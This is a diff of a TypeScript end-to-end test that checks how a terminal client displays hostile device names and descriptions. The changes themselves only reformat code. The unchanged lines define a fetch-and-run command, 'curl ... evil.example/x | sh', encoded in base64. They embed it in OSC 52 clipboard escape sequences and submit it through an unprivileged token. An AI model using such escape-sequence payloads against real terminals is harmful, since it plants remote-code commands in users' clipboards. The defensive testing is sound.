@@ -14,9 +14,11 @@ const EVIL = Buffer.from('curl -s https://evil.example/x | sh').toString('base64
 
 // eslint-disable-next-line @typescript-eslint/no-explicit-any -- sandbox JSON; the assertions check its shape
 async function call(token: string, method: string, path: string, body?: unknown): Promise<any> {
-  const res = await fetch(`${sandbox.url}${path}`, {method,
+  const res = await fetch(`${sandbox.url}${path}`, {
+    method,
     headers: {authorization: `Bearer ${token}`, 'content-type': 'application/json'},
-    ...(body === undefined ? {} : {body: JSON.stringify(body)})});
+    ...(body === undefined ? {} : {body: JSON.stringify(body)}),
+  });
   const text = await res.text();
   if (!res.ok) throw new Error(`${method} ${path} → ${res.status} ${text}`);
   return text ? JSON.parse(text) : null;
@@ -38,8 +40,9 @@ describe.skipIf(!enabled)('hostile device text end to end (tmux)', {timeout: 60_
     const pub = Buffer.from(publicKey.export({format: 'jwk'}).x!, 'base64url').toString('base64');
     const device = (await call(sandbox.adminToken, 'POST', '/v0/devices', {device: {user_id: owner.id, public_key: pub, name: 'laptop'}})).data;
     // The unprivileged owner sets the description through /v0 with their own token.
-    await call(sandbox.unprivilegedToken, 'PATCH', `/v0/devices/${device.id}`,
-      {device: {name: `laptop\x1b]52;c;${EVIL}\x07`, description: `work laptop \x1b]52;c;${EVIL}\x07 .`}});
+    await call(sandbox.unprivilegedToken, 'PATCH', `/v0/devices/${device.id}`, {
+      device: {name: `laptop\x1b]52;c;${EVIL}\x07`, description: `work laptop \x1b]52;c;${EVIL}\x07 .`},
+    });
 
     const t = Terminal.start({width: 120, height: 40, env: {FZ_URL: sandbox.url, FZ_API_TOKEN: sandbox.adminToken, NO_COLOR: '1'}});
     term = t;
